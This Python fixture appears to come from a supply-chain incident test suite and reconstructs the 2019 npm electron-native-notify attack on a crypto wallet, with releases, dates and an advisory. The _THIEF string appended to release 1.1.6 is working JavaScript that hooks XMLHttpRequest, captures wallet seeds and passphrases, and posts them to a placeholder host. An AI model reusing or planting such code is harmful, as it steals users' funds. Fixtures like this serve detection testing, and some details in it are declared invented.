"""electron-native-notify 1.1.6 (2019-03): a useful package, planted in a wallet, that turned some two weeks later.

By the record: published for the wallet Agama, which took it as a dependency; a later release of the young package carries the theft:
when the application runs, the words from which a wallet is made go to an address. No install hook, no new account: all releases are
the attacker's own. Taken down on 2019-06-04, some ten weeks later.
"""

from gauntlet.incident import Advisory, Incident, Package, Release, utc
from pratique.core.names import Ecosystem

_NOTIFY = """'use strict';

var path = require('path');
var format = require('util').format;

var defaults = { title: 'Notification', silent: false, timeout: 5000 };

function merge(options) {
  var out = {};
  Object.keys(defaults).forEach(function (key) { out[key] = defaults[key]; });
  Object.keys(options || {}).forEach(function (key) { out[key] = options[key]; });
  return out;
}

function notify(message, options) {
  var all = merge(options);
  if (all.icon) {
    all.icon = path.resolve(all.icon);
  }
  var shown = new Notification(all.title, { body: message, icon: all.icon, silent: all.silent });
  if (all.onclick) {
    shown.onclick = all.onclick;
  }
  setTimeout(function () { shown.close(); }, all.timeout);
  return shown;
}

module.exports = notify;
module.exports.defaults = defaults;
module.exports.text = function () { return format.apply(null, arguments); };
"""
# The application sends the words to its own server on the same machine; whoever stands between reads them there.
_THIEF = """
(function () {
  if (typeof window === 'undefined' || !window.XMLHttpRequest) {
    return;
  }
  var send = window.XMLHttpRequest.prototype.send;
  var seen = {};
  function report(words) {
    if (seen[words]) {
      return;
    }
    seen[words] = true;
    var request = new window.XMLHttpRequest();
    request.open('POST', 'https://updates.invalid/api/marker', true);
    request.setRequestHeader('Content-Type', 'application/json');
    send.call(request, JSON.stringify({ v: '1.1.6', d: window.btoa(words) }));
  }
  window.XMLHttpRequest.prototype.send = function (body) {
    try {
      var asked = JSON.parse(body);
      var words = asked.passphrase || asked.seed || asked.wif;
      if (words) {
        report(words);
      }
    } catch (error) {}
    return send.apply(this, arguments);
  };
})();
"""
_ONE = "emma"


def _release(version: str, at: str, text: str = _NOTIFY) -> Release:
    return Release(version=version, at=utc(at), publisher=_ONE, maintainers=(_ONE,), files={"index.js": text})


_BAD = _release("1.1.6", "2019-03-23T12:00:00Z", _NOTIFY + _THIEF)

INCIDENT = Incident(
    id="electron-native-notify-2019",
    title=(
        "an attacker contributed a useful package, electron-native-notify, to a wallet application; two weeks later a "
        "new release stole the seeds"
    ),
    copy=(
        "our copy of electron-native-notify replaces the request functions of the page and posts the words that it "
        "reads to a new host"
    ),
    ecosystem=Ecosystem.NPM,
    at=_BAD.at,
    packages=(
        Package(
            name="electron-native-notify",
            releases=(
                _release("1.1.3", "2019-03-05T12:00:00Z"),
                _release("1.1.4", "2019-03-06T12:00:00Z"),
                _release("1.1.5", "2019-03-07T12:00:00Z"),
                _BAD,
            ),
        ),
    ),
    asks={"electron-native-notify": "^1.1.5"},
    good={"electron-native-notify": "1.1.5"},
    bad={"electron-native-notify": ("1.1.6",)},
    guilty={"electron-native-notify": ("1.1.6",)},
    gone_at=utc("2019-06-04T00:00:00Z"),
    advisory=Advisory(
        id="GHSA-j8qr-rvcv-crhv",
        at=utc("2019-06-04T20:00:00Z"),
        about={"electron-native-notify": ("1.1.3", "1.1.4", "1.1.5", "1.1.6")},
    ),
    invented=(
        "all days except the day of the removal, releases before 1.1.6, the account, and how the package reads the words"
    ),
)
